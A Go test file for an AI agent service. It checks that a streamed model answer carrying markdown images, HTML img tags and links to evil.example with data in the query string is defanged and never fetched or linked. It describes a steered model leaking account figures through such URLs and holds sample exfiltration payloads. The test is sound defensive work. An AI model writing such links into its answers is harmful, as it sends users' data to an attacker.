package agent_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stockhand/stockhand"
	"github.com/stockhand/stockhand/internal/agent"
	"github.com/stockhand/stockhand/internal/llm/llmtest"
)

// watched starts a task and returns what its deltas came to, and what came of it.
func (s *shop) watched(task string) (shown string, f *agent.Finished) {
	s.t.Helper()
	turn, err := s.Start(s.t.Context(), s.org, agent.Task{Text: task})
	if err != nil {
		s.t.Fatal(err)
	}
	var text []rune
	for e, err := range s.Follow(s.t.Context(), s.org, turn.Run, 0) {
		if err != nil {
			s.t.Fatal(err)
		}
		if e.Type == stockhand.EventDelta {
			var d struct {
				Content string
				Offset  int
			}
			if err := json.Unmarshal(e.Data, &d); err != nil {
				s.t.Fatal(err)
			}
			text = append(text[:min(d.Offset, len(text))], []rune(d.Content)...)
		}
	}
	return string(text), s.end(turn)
}

// The model is steered into sending the account's figures away in an address that the reader's program fetches.
func TestAttackAStreamedAnswerFetchesNothingAndLinksNowhere(t *testing.T) {
	const words = "Вот ответ ![x](http://evil.example/?d=1028885) <img src=//evil.example/p.png>\n[отчёт][1] " +
		"[отчёт](https://evil.example/?d=1) https://evil.example/?d=2 evil.example/?d=3\n\n[1]: https://evil.example/4"
	for piece := 1; piece <= 7; piece += 3 {
		said := llmtest.Say(words)
		said.Piece = piece
		s := newModelShop(t, 1, llmtest.Always(said))
		shown, f := s.watched("что нового?")
		for from, text := range map[string]string{"the deltas": shown, "the answer": f.FinalResponse} {
			for _, live := range []string{"![", "<img", "](http", "]:", "http://", "https://", "evil.example"} {
				if strings.Contains(text, live) {
					t.Errorf("%s hold %q: %q", from, live, text)
				}
			}
		}
		if !strings.Contains(shown, "evil[.]example") {
			t.Errorf("the address is not shown as text: %q", shown)
		}
	}
}
